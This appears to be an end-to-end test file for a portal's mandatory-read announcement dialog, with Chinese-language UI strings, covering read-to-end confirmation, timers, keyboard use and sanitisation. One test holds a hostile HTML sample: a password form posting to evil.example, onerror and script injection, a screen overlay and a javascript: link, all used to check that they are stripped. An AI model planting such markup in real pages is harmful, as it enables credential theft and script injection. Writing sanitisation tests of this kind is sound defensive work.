import type { Frame, Page } from 'playwright';
import { beforeEach, expect, test } from 'vitest';
import type { MethodRequest } from '#bridge/methods/define.ts';
import type { ShellMethods } from '#bridge/methods/index.ts';
import { violationsOf } from '#tests/support/axe.ts';
import { answerOf } from '#tests/support/page-dialog.ts';
import { appFrame, signIn } from '#tests/support/portal.ts';
import { portalOfFile } from '#tests/support/portal-of-file.ts';

const portal = portalOfFile({ language: 'zh-CN' });
let page: Page;
let app: Frame;

beforeEach(async () => {
  page = await portal.visit();
  await signIn(page, 'admin', '/portal/note-1/page');
  app = await appFrame(page, 'note-1');
});

type Words = MethodRequest<ShellMethods['dialogs']['mustRead']>;

/** Lets the app show an announcement; what it is answered is kept in its page. */
function announce(words: Words): Promise<void> {
  return app.evaluate((given) => {
    document.body.dataset.answer = 'none';
    window.bridge.dialogs.mustRead(given).then(
      ({ acknowledged }) => {
        document.body.dataset.answer = String(acknowledged);
      },
      (error) => {
        document.body.dataset.answer = error.code;
      },
    );
  }, words);
}

const long: Words = {
  title: '考勤制度调整',
  html: '<p>自下月起，外勤打卡须注明事由。</p>'.repeat(60),
};
const dialog = () => page.getByRole('dialog', { name: '考勤制度调整' });
const button = (name: string | RegExp) => dialog().getByRole('button', { name });

test('an announcement of an app can be confirmed once it was read to its end, with the keyboard alone', async () => {
  await announce(long);
  await dialog().getByText('请阅读至末尾后确认').waitFor();
  await dialog().getByText('便签1', { exact: true }).waitFor();
  expect(await button('我已阅读').isDisabled()).toBe(true);
  expect(await violationsOf(page)).toEqual([]);
  const article = dialog().getByRole('article');
  await expect.poll(() => article.evaluate((one) => one.matches(':focus'))).toBe(true);
  await page.keyboard.press('End');
  await expect.poll(() => button('我已阅读').isEnabled()).toBe(true);
  await button('我已阅读').press('Enter');
  await dialog().waitFor({ state: 'detached' });
  await expect.poll(() => answerOf(app)).toBe('true');
});

test('an announcement that takes no scrolling can be confirmed after its seconds', async () => {
  await announce({
    title: '考勤制度调整',
    text: '自下月起，外勤打卡须注明事由。',
    seconds: 2,
    okText: { 'zh-CN': '我会遵守', en: 'I will comply' },
  });
  await dialog()
    .getByText(/[12] 秒后可以确认/)
    .waitFor();
  expect(await button('我会遵守').isDisabled()).toBe(true);
  await expect.poll(() => button('我会遵守').isEnabled()).toBe(true);
  await button('我会遵守').click();
  await expect.poll(() => answerOf(app)).toBe('true');
});

test('nobody is locked out by an announcement: soon it can be left for later (T14)', async () => {
  await announce({ ...long, seconds: 60 });
  await button(/稍后阅读/).waitFor();
  await page.keyboard.press('Escape');
  await page.mouse.click(10, 10);
  expect(await button(/稍后阅读（\d+ 秒）/).isDisabled()).toBe(true);
  await expect.poll(() => button('稍后阅读').isEnabled(), { timeout: 15_000 }).toBe(true);
  await page.keyboard.press('Escape');
  await dialog().waitFor({ state: 'detached' });
  await expect.poll(() => answerOf(app)).toBe('false');
});

test('a hostile announcement does nothing but be read, and goes with its app (T17)', async () => {
  await announce({
    title: '考勤制度调整',
    html: `<p>须知</p><form action="https://evil.example"><input name="password"></form>
      <img src="x" onerror="document.title='run'"><script>document.title='run'</script>
      <div style="position:fixed;inset:0">盖住</div><a href="javascript:document.title='run'">x</a>`,
  });
  await dialog().getByText('须知').waitFor();
  const odd = 'form, input, img, script, [style], [href^="javascript"]';
  expect(await dialog().getByRole('article').locator(odd).count()).toBe(0);
  expect(await page.title()).not.toBe('run');
  const again = await app.evaluate(() =>
    window.bridge.dialogs.mustRead({ title: '二', text: '二' }).catch(({ code }) => code),
  );
  expect(again).toBe('busy');
  await app.evaluate(() => location.reload()).catch(() => {});
  await dialog().waitFor({ state: 'detached' });
});
